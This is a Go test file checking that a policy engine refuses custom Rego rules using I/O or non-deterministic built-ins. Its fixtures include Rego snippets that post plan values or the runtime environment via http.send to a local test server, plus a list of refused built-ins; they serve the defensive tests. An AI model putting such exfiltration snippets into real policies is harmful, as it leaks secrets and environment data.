package parity_test

import (
	"context"
	"errors"
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	opaast "github.com/open-policy-agent/opa/v1/ast"

	"github.com/groundzero/groundzero/internal/parity"
	"github.com/groundzero/groundzero/internal/policy"
)

// compile parses and compiles custom modules the way the CLI does.
func compile(t *testing.T, custom map[string]string) (*parity.Engine, error) {
	t.Helper()
	p, err := policy.Parse("policy.yaml", []byte(policyYAML))
	if err != nil {
		t.Fatal(err)
	}
	mods, err := parity.ParseCustom(custom, func(s string) string { return s })
	if err != nil {
		t.Fatal(err)
	}
	return parity.New(context.Background(), p, p.Environments[0].Name, mods)
}

// A custom rule that posts plan values with http.send is refused when it is
// compiled, with the file, the line and the reason; the listening server
// never hears from it.
func TestHTTPSendRefused(t *testing.T) {
	var requests atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		requests.Add(1)
		fmt.Fprint(w, `{}`)
	}))
	defer srv.Close()
	src := fmt.Sprintf(`package groundzero.custom

import rego.v1

deny contains msg if {
	some r in input.resources
	resp := http.send({"method": "POST", "url": %q, "body": r.values})
	msg := sprintf("sent: %%v", [resp.status_code])
}
`, srv.URL+"/leak")
	e, err := compile(t, map[string]string{"governance/rego/leak.rego": src})
	if err == nil {
		// Give it every chance to reach the server before failing.
		vs, cerr := e.Check(context.Background(), &parity.Input{Source: "plan", Resources: []parity.Resource{{Address: "aws_kms_key.k", Type: "aws_kms_key", Values: map[string]any{"secret": "x"}}}})
		t.Fatalf("New(http.send) compiled; Check = %v, %v; server saw %d request(s)", vs, cerr, requests.Load())
	}
	var fb *parity.ForbiddenBuiltinError
	if !errors.As(err, &fb) || fb.File != "governance/rego/leak.rego" || fb.Line != 7 || fb.Builtin != "http.send" {
		t.Fatalf("New(http.send) = %#v, want a *ForbiddenBuiltinError at governance/rego/leak.rego:7 for http.send", err)
	}
	msg := err.Error()
	if !strings.HasPrefix(msg, "governance/rego/leak.rego:7: built-in http.send is not allowed in governed policy") {
		t.Errorf("error = %q, want it to name the file, line and built-in and say it is not allowed in governed policy", msg)
	}
	if n := requests.Load(); n != 0 {
		t.Fatalf("the server received %d request(s), want none", n)
	}
}

// Every built-in that does I/O, reads the environment, the clock or a
// random source is refused the same way, wherever it is called.
func TestRefusedBuiltins(t *testing.T) {
	cases := map[string]string{
		"opa.runtime":            `env := opa.runtime().env`,
		"net.lookup_ip_addr":     `addrs := net.lookup_ip_addr("example.com")`,
		"time.now_ns":            `now := time.now_ns()`,
		"rand.intn":              `n := rand.intn("seed", 10)`,
		"uuid.rfc4122":           `u := uuid.rfc4122("seed")`,
		"json.match_schema":      `m := json.match_schema({}, {"$ref": "http://127.0.0.1:9/s.json"})`,
		"io.jwt.decode_verify":   `d := io.jwt.decode_verify("x", {"secret": "s"})`,
		"io.jwt.encode_sign":     `s := io.jwt.encode_sign({"alg": "HS256"}, {}, {"kty": "oct", "k": "AA"})`,
		"providers.aws.sign_req": `s := providers.aws.sign_req({}, {}, 0)`,
	}
	for builtin, stmt := range cases {
		src := "package groundzero.custom\n\nimport rego.v1\n\nhelper(x) := y if {\n\t" + stmt + "\n\ty := x\n}\n\ndeny contains msg if {\n\tmsg := helper(\"x\")\n}\n"
		_, err := compile(t, map[string]string{"x.rego": src})
		var fb *parity.ForbiddenBuiltinError
		if !errors.As(err, &fb) || fb.Builtin != builtin || fb.Line != 6 || fb.File != "x.rego" {
			t.Errorf("New(%s) = %v, want a *ForbiddenBuiltinError at x.rego:6", builtin, err)
		}
	}
	// The list covers every built-in this OPA marks non-deterministic,
	// and keeps the pure network arithmetic.
	refused := parity.RefusedBuiltins()
	for _, b := range opaast.CapabilitiesForThisVersion().Builtins {
		if b.Nondeterministic && !slices.Contains(refused, b.Name) {
			t.Errorf("non-deterministic built-in %s is not refused", b.Name)
		}
	}
	for _, name := range []string{"http.send", "net.lookup_ip_addr", "opa.runtime"} {
		if !slices.Contains(refused, name) {
			t.Errorf("RefusedBuiltins() lacks %s", name)
		}
	}
	for _, name := range []string{"net.cidr_contains", "regex.match", "sprintf", "print"} {
		if slices.Contains(refused, name) {
			t.Errorf("RefusedBuiltins() refuses pure %s", name)
		}
	}
}

// A custom rule made of pure built-ins (net.cidr_*, regex, strings,
// objects, time parsing) compiles and finds what it should.
func TestPureBuiltinsAllowed(t *testing.T) {
	e, err := compile(t, map[string]string{"governance/rego/net.rego": `package groundzero.custom

import rego.v1

deny contains v if {
	some r in input.resources
	cidr := object.get(r.values, "cidr_block", "")
	net.cidr_is_valid(cidr)
	not net.cidr_contains("10.0.0.0/8", cidr)
	regex.match("^aws_", r.type)
	time.parse_rfc3339_ns("2025-01-01T00:00:00Z") > 0
	print("checked", r.address)
	v := {"address": r.address, "rule": "private-cidr", "msg": sprintf("%s is not inside 10.0.0.0/8", [upper(cidr)])}
}
`})
	if err != nil {
		t.Fatal(err)
	}
	in := &parity.Input{Source: "plan", Resources: []parity.Resource{
		{Address: "aws_vpc.public", Type: "aws_vpc", Values: map[string]any{"cidr_block": "192.168.0.0/16"}},
		{Address: "aws_vpc.private", Type: "aws_vpc", Values: map[string]any{"cidr_block": "10.1.0.0/16"}},
	}}
	vs, err := e.Check(context.Background(), in)
	if err != nil {
		t.Fatal(err)
	}
	want := []parity.Violation{{Address: "aws_vpc.public", Rule: "private-cidr", Message: "192.168.0.0/16 is not inside 10.0.0.0/8"}}
	if !reflect.DeepEqual(vs, want) {
		t.Fatalf("Check = %+v, want %+v", vs, want)
	}
}

// Other compile errors name the custom file and line too.
func TestCompileErrorNamesFile(t *testing.T) {
	_, err := compile(t, map[string]string{"governance/rego/typo.rego": "package groundzero.custom\n\nimport rego.v1\n\ndeny contains msg if {\n\tmsg := strings.no_such_builtin(\"x\")\n}\n"})
	var re *parity.RegoError
	if !errors.As(err, &re) || re.File != "governance/rego/typo.rego" || !strings.Contains(re.Msg, "line 6") {
		t.Fatalf("New(undefined function) = %v, want a *RegoError naming governance/rego/typo.rego, line 6", err)
	}
}

// Evaluation is never given a runtime value or the environment: no code in
// the package mentions rego.Runtime, rego.EvalRuntime or the process
// environment, so opa.runtime would have nothing to return even if it were
// allowed.
func TestNoRuntimeOrEnvironment(t *testing.T) {
	paths, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	forbidden := map[string]bool{
		"rego.Runtime": true, "rego.EvalRuntime": true,
		"os.Environ": true, "os.Getenv": true, "os.LookupEnv": true, "os.ExpandEnv": true,
	}
	fset := token.NewFileSet()
	checked := 0
	for _, p := range paths {
		if strings.HasSuffix(p, "_test.go") {
			continue
		}
		f, err := parser.ParseFile(fset, p, nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		checked++
		ast.Inspect(f, func(n ast.Node) bool {
			if sel, ok := n.(*ast.SelectorExpr); ok {
				if x, ok := sel.X.(*ast.Ident); ok && forbidden[x.Name+"."+sel.Sel.Name] {
					t.Errorf("%s: %s.%s: evaluation must not see the runtime or the environment", fset.Position(sel.Pos()), x.Name, sel.Sel.Name)
				}
			}
			return true
		})
	}
	if checked == 0 {
		t.Fatal("no source files checked")
	}
}

// A custom rule file over 1 MiB is refused before it is parsed.
func TestRegoFileTooLarge(t *testing.T) {
	dir := t.TempDir()
	big := "package groundzero.custom\n" + strings.Repeat("# padding padding padding padding padding padding padding padding\n", (1<<20)/64+1)
	if err := os.WriteFile(filepath.Join(dir, "big.rego"), []byte(big), 0o644); err != nil {
		t.Fatal(err)
	}
	_, err := parity.LoadCustom(dir)
	var tl *parity.TooLargeError
	if !errors.As(err, &tl) || !strings.HasSuffix(tl.File, "big.rego") {
		t.Fatalf("LoadCustom(2 MiB file) = %v, want a *TooLargeError naming big.rego", err)
	}
}

// The Rego tests of custom rules (policy test) run with the same
// capabilities: a test that would send the environment out with http.send
// is refused before anything runs, and pure tests still pass.
func TestRunTestsGoverned(t *testing.T) {
	var requests atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		requests.Add(1)
		fmt.Fprint(w, `{}`)
	}))
	defer srv.Close()
	parse := func(name, src string) *opaast.Module {
		m, err := opaast.ParseModuleWithOpts(name, src, opaast.ParserOptions{RegoVersion: opaast.RegoV1})
		if err != nil {
			t.Fatal(err)
		}
		return m
	}
	rule := parse("governance/rego/tags.rego", `package groundzero.custom

import rego.v1

deny contains msg if {
	some r in input.resources
	not r.tags.owner
	msg := sprintf("%s has no owner", [r.address])
}
`)
	pure := parse("governance/rego/tags_test.rego", `package groundzero.custom_test

import rego.v1

test_owner if {
	data.groundzero.custom.deny == {"a.b has no owner"} with input as {"resources": [{"address": "a.b", "tags": {}}]}
}
`)
	leak := parse("governance/rego/leak_test.rego", fmt.Sprintf(`package groundzero.custom_test

import rego.v1

test_leak if {
	resp := http.send({"method": "POST", "url": %q, "body": opa.runtime()})
	resp.status_code == 200
}
`, srv.URL))

	ch, err := parity.RunTests(context.Background(), map[string]*opaast.Module{"tags.rego": rule, "tags_test.rego": pure})
	if err != nil {
		t.Fatal(err)
	}
	passed := 0
	for r := range ch {
		if r.Pass() {
			passed++
		} else {
			t.Errorf("%s: %s failed: %v", r.Location.File, r.Name, r.Error)
		}
	}
	if passed != 1 {
		t.Errorf("RunTests: %d test(s) passed, want 1", passed)
	}

	_, err = parity.RunTests(context.Background(), map[string]*opaast.Module{"tags.rego": rule, "leak_test.rego": leak})
	var fb *parity.ForbiddenBuiltinError
	if !errors.As(err, &fb) || fb.File != "governance/rego/leak_test.rego" || fb.Line != 6 {
		t.Fatalf("RunTests(http.send, opa.runtime) = %v, want a *ForbiddenBuiltinError at governance/rego/leak_test.rego:6", err)
	}
	if n := requests.Load(); n != 0 {
		t.Fatalf("the server received %d request(s), want none", n)
	}
}
